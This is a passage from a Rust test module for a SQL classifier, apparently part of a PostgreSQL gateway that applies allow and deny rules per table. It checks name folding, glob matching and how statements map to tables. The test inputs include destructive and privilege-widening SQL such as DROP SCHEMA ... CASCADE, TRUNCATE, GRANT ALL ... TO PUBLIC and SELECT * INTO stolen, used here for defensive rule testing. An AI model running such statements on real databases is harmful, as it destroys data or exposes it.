            ("*_log", "audit_logs", false),
            ("a*b*c", "abcabc", true),
            ("a*b*c", "acb", false),
            ("**", "", true),
            ("", "", true),
            ("x", "", false),
            ("caf\u{e9}*", "caf\u{e9}_t", true),
            ("*\u{e9}", "caf\u{e9}", true),
            ("*\u{e9}", "cafe", false),
        ] {
            assert_eq!(glob(pattern, name), want, "{pattern} ~ {name}");
        }
        // Backtracking at every star would try about C(63, 30) ways here.
        let stars = "*a".repeat(30) + "*b";
        assert!(!glob(&stars, &"a".repeat(63)));
    }

    #[test]
    fn names_are_folded_and_cut_as_the_server_does() {
        let table = |sql: &str| classify(sql).tables();
        assert_eq!(table(r#"DELETE FROM "User""#), ["User"]);
        assert_eq!(table("DELETE FROM User_Log"), ["user_log"]);
        // PostgreSQL folds ASCII letters only.
        assert_eq!(table("DELETE FROM Überweisungen"), ["Überweisungen"]);
        // Only the first 63 bytes of a name count, quoted or not, cut at a character.
        let long = "a".repeat(62);
        assert_eq!(table(&format!("DELETE FROM {long}BCDEF")), [format!("{long}b")]);
        assert_eq!(table(&format!(r#"DELETE FROM "{long}é""#)), [long]);
    }

    #[test]
    fn statements_that_end_the_block_are_marked() {
        for sql in
            ["COMMIT", "end", "COMMIT AND CHAIN", "ROLLBACK", "abort", "select 1; commit", "ROLLBACK WORK"]
        {
            assert!(classify(sql).ends_block, "{sql}");
        }
        for sql in
            ["BEGIN", "START TRANSACTION", "SAVEPOINT a", "ROLLBACK TO SAVEPOINT a", "RELEASE a", "select 1"]
        {
            assert!(!classify(sql).ends_block, "{sql}");
        }
        // Two-phase commit is not something the gateway reads: it takes the unknown default.
        for sql in ["PREPARE TRANSACTION 'x'", "COMMIT PREPARED 'x'"] {
            let c = classify(sql);
            assert!(c.unparsed.is_some() || c.unknown.is_some() || c.ends_block, "{sql}: {c:?}");
        }
    }

    /// The tables `sql` names, as `schema.table` or `table`, for operation `op`.
    fn tables_for(sql: &str, op: Operation) -> Vec<String> {
        let c = classify(sql);
        c.accesses
            .iter()
            .filter(|a| a.operation == op)
            .filter_map(|a| a.table.as_ref())
            .map(|t| t.to_string())
            .collect()
    }

    #[test]
    fn statements_on_a_table_name_it_wherever_the_parser_puts_the_name() {
        use Operation as O;
        for (sql, op, table) in [
            ("COMMENT ON TABLE orders IS 'x'", O::Comment, "orders"),
            ("comment on table Public.Orders is null", O::Comment, "public.orders"),
            (r#"COMMENT ON TABLE "Orders" IS 'x'"#, O::Comment, "Orders"),
            ("COMMENT ON COLUMN orders.item IS 'x'", O::Comment, "orders"),
            ("COMMENT ON COLUMN shop.public.orders.item IS 'x'", O::Comment, "public.orders"),
            ("COMMENT ON VIEW orders IS 'x'", O::Comment, "orders"),
            ("COMMENT ON MATERIALIZED VIEW orders IS 'x'", O::Comment, "orders"),
            ("COMMENT ON FOREIGN TABLE orders IS 'x'", O::Comment, "orders"),
            ("COMMENT ON SEQUENCE orders IS 'x'", O::Comment, "orders"),
            // An index is named as `DROP INDEX` names it.
            ("COMMENT ON INDEX orders_pkey IS 'x'", O::Comment, "orders_pkey"),
            ("ALTER INDEX orders_pkey RENAME TO k", O::Alter, "orders_pkey"),
            ("GRANT ALL ON orders TO PUBLIC", O::Grant, "orders"),
            ("GRANT SELECT (item) ON TABLE public.Orders, payments TO bob", O::Grant, "public.orders"),
            ("GRANT SELECT (item) ON TABLE public.Orders, payments TO bob", O::Grant, "payments"),
            ("GRANT USAGE ON SEQUENCE orders_id_seq TO bob", O::Grant, "orders_id_seq"),
            ("REVOKE ALL ON orders FROM PUBLIC", O::Revoke, "orders"),
            ("REVOKE GRANT OPTION FOR SELECT ON Orders FROM bob", O::Revoke, "orders"),
            ("VACUUM orders", O::Vacuum, "orders"),
            ("VACUUM FULL public.Orders", O::Vacuum, "public.orders"),
            (r#"VACUUM "verbose""#, O::Vacuum, "verbose"),
            ("ANALYZE orders (item)", O::Analyze, "orders"),
            (
                "CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()",
                O::Create,
                "orders",
            ),
            (
                "CREATE CONSTRAINT TRIGGER t AFTER INSERT ON payments FROM public.orders \
                 FOR EACH ROW EXECUTE FUNCTION f()",
                O::Create,
                "public.orders",
            ),
            ("DROP TRIGGER IF EXISTS t ON public.orders", O::Drop, "public.orders"),
            ("CREATE TABLE t (LIKE orders)", O::Create, "orders"),
            ("CREATE TABLE t () INHERITS (Orders)", O::Create, "orders"),
            ("CREATE TABLE t (a int REFERENCES orders)", O::Create, "orders"),
            (
                "CREATE TABLE t (a int, FOREIGN KEY (a) REFERENCES public.orders (id))",
                O::Create,
                "public.orders",
            ),
            ("ALTER TABLE t ADD FOREIGN KEY (a) REFERENCES orders (id)", O::Alter, "orders"),
            ("ALTER TABLE t ADD COLUMN a int REFERENCES orders", O::Alter, "orders"),
            ("ALTER TABLE parent ATTACH PARTITION orders FOR VALUES IN (1)", O::Alter, "orders"),
            ("ALTER TABLE parent DETACH PARTITION orders", O::Alter, "orders"),
            ("ALTER TABLE t INHERIT orders", O::Alter, "orders"),
            ("ALTER TABLE t NO INHERIT orders", O::Alter, "orders"),
            ("CREATE SEQUENCE s OWNED BY public.orders.id", O::Create, "public.orders"),
            ("CREATE SEQUENCE orders_id_seq", O::Create, "orders_id_seq"),
            // Named already, kept so.
            ("ANALYZE orders", O::Analyze, "orders"),
            ("LOCK TABLE ONLY orders IN ACCESS EXCLUSIVE MODE", O::Lock, "orders"),
            ("ALTER TABLE orders OWNER TO bob", O::Alter, "orders"),
            ("ALTER TABLE orders RENAME TO o2", O::Alter, "orders"),
            ("CREATE INDEX ON orders (item)", O::Create, "orders"),
            ("CREATE POLICY p ON orders USING (true)", O::Create, "orders"),
            ("DROP POLICY p ON orders", O::Drop, "orders"),
            ("TRUNCATE TABLE ONLY orders", O::Truncate, "orders"),
        ] {
            let got = tables_for(sql, op);
            assert!(got.iter().any(|t| t == table), "{sql}: {op:?} on {got:?}, not {table}");
        }
        // An option the parser reads as a table is not one.
        assert!(!classify("ANALYZE VERBOSE").tables().contains(&"verbose".to_string()));
    }

    #[test]
    fn statements_on_every_table_of_a_schema_or_the_database_name_every_table() {
        use Operation as O;
        for (sql, op, table) in [
            ("GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob", O::Grant, "public.*"),
            ("GRANT ALL ON ALL SEQUENCES IN SCHEMA Public, audit TO bob", O::Grant, "audit.*"),
            ("REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob", O::Revoke, "public.*"),
            ("VACUUM", O::Vacuum, "*"),
            ("VACUUM FULL", O::Vacuum, "*"),
            // PostgreSQL's options, which the parser takes for a table.
            ("VACUUM VERBOSE", O::Vacuum, "*"),
            ("VACUUM FREEZE", O::Vacuum, "*"),
            ("vacuum analyze", O::Vacuum, "*"),
            ("VACUUM FULL VERBOSE", O::Vacuum, "*"),
            ("ANALYZE", O::Analyze, "*"),
            ("ANALYZE VERBOSE", O::Analyze, "*"),
            ("DROP SCHEMA audit CASCADE", O::Drop, "audit.*"),
            ("ALTER SCHEMA public RENAME TO old", O::Alter, "public.*"),
            ("ALTER SCHEMA public OWNER TO bob", O::Alter, "public.*"),
            // CASCADE drops what depends on the object: columns, defaults, views, keys.
            ("DROP SCHEMA audit CASCADE", O::Drop, "*"),
            ("DROP TYPE mood CASCADE", O::Drop, "*"),
            ("DROP DOMAIN posint CASCADE", O::Drop, "*"),
            ("DROP FUNCTION f(int) CASCADE", O::Drop, "*"),
            ("DROP PROCEDURE p() CASCADE", O::Drop, "*"),
            ("DROP EXTENSION hstore CASCADE", O::Drop, "*"),
            ("DROP SEQUENCE s CASCADE", O::Drop, "*"),
            ("DROP TABLE customers CASCADE", O::Drop, "*"),
            ("DROP VIEW v CASCADE", O::Drop, "*"),
        ] {
            let got = tables_for(sql, op);
            assert!(got.iter().any(|t| t == table), "{sql}: {op:?} on {got:?}, not {table}");
        }
        for sql in
            ["DROP TYPE mood", "DROP FUNCTION f(int) RESTRICT", "DROP TABLE customers", "DROP EXTENSION x"]
        {
            let got = tables_for(sql, O::Drop);
            assert!(!got.iter().any(|t| t == "*"), "{sql}: {got:?}");
        }
        // Every table is whatever table a deny or hold rule names (in its schema); an allow
        // rule must name every table.
        let every = TableName { parts: vec!["public".into(), "*".into()] };
        for p in ["orders", "public.orders", "ORD*", "*", "public.*", "*.*"] {
            assert!(every.matches(p, true), "{p}");
        }
        assert!(!every.matches("audit.orders", true));
        for p in ["*", "public.*", "*.*"] {
            assert!(every.matches(p, false), "{p}");
        }
        for p in ["orders", "public.orders", "ord*", "audit.*"] {
            assert!(!every.matches(p, false), "{p}");
        }
        let all = TableName { parts: vec!["*".into()] };
        assert!(
            all.matches("audit.orders", true) && all.matches("*", false) && !all.matches("orders", false)
        );
    }

    #[test]
    fn table_commands_and_select_into_name_their_tables() {
        for sql in [
            "SELECT * FROM (TABLE users) u",
            "(TABLE users)",
            "WITH u AS (TABLE users) SELECT * FROM u",
            "SELECT 1 UNION TABLE users",
            "SELECT * FROM orders WHERE id IN (TABLE users)",
            "DECLARE c CURSOR FOR TABLE users",
            "COPY (TABLE users) TO STDOUT",
            "CREATE TEMP TABLE t AS TABLE users",
            "CREATE VIEW v AS TABLE users",
        ] {
            assert!(
                tables_for(sql, Operation::Select).contains(&"users".to_string()),
                "{sql}: {:?}",
                classify(sql)
            );
        }
        assert_eq!(tables_for("SELECT * FROM (TABLE Public.Users) u", Operation::Select), ["public.users"]);
        for (sql, table) in [
            ("SELECT * INTO stolen FROM users", "stolen"),
            ("SELECT 1 AS x INTO public.Evil UNION SELECT 2", "public.evil"),
            (r#"SELECT * INTO TEMP "Kept" FROM users"#, "Kept"),
        ] {
            let got = tables_for(sql, Operation::Create);
            assert!(got.iter().any(|t| t == table), "{sql}: {got:?}");
        }
    }

    #[test]
    fn statements_on_a_table_the_parser_cannot_read_take_a_default() {
        // Refused by the parser or of unknown effect (each takes its default, deny unless
        // configured otherwise), unless a newer parser reads them and the table is reported.
        for sql in [
            "CLUSTER orders",
            "CLUSTER orders USING orders_pkey",
            "REINDEX TABLE orders",
            "SECURITY LABEL ON TABLE orders IS 'x'",
            "CREATE STATISTICS s ON id, item FROM orders",
            "COMMENT ON CONSTRAINT orders_pkey ON orders IS 'x'",
            "COMMENT ON TRIGGER t ON orders IS 'x'",
            "COMMENT ON POLICY p ON orders IS 'x'",
            "COMMENT ON RULE r ON orders IS 'x'",
            "COMMENT ON TABLE orders IS $$x$$",
            "GRANT SELECT ON FOREIGN TABLE orders TO bob",
            "ALTER TABLE orders SET SCHEMA other",
            "ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b",
            "ALTER SEQUENCE s OWNED BY orders.id",
            "ALTER TRIGGER t ON orders RENAME TO u",
            "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO bob",
            "CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING",
            "DROP RULE r ON orders",
            "REFRESH MATERIALIZED VIEW orders",
            "CREATE PUBLICATION p FOR TABLE orders",
            "CREATE TABLE t (LIKE orders INCLUDING ALL)",
            "VACUUM (VERBOSE) orders",
            "VACUUM FREEZE orders",
            "VACUUM orders, payments",
            "ANALYZE (VERBOSE) orders",
            "ANALYZE VERBOSE orders",
            "ANALYZE payments, orders",
            "ANALYSE orders",
            "TABLE orders",
        ] {
            let c = classify(sql);
            let named = c.accesses.iter().any(|a| a.table.as_ref().is_some_and(|t| t.table() == "orders"));
            assert!(c.unparsed.is_some() || c.unknown_effect().is_some() || named, "{sql}: {c:?}");
        }
    }
}
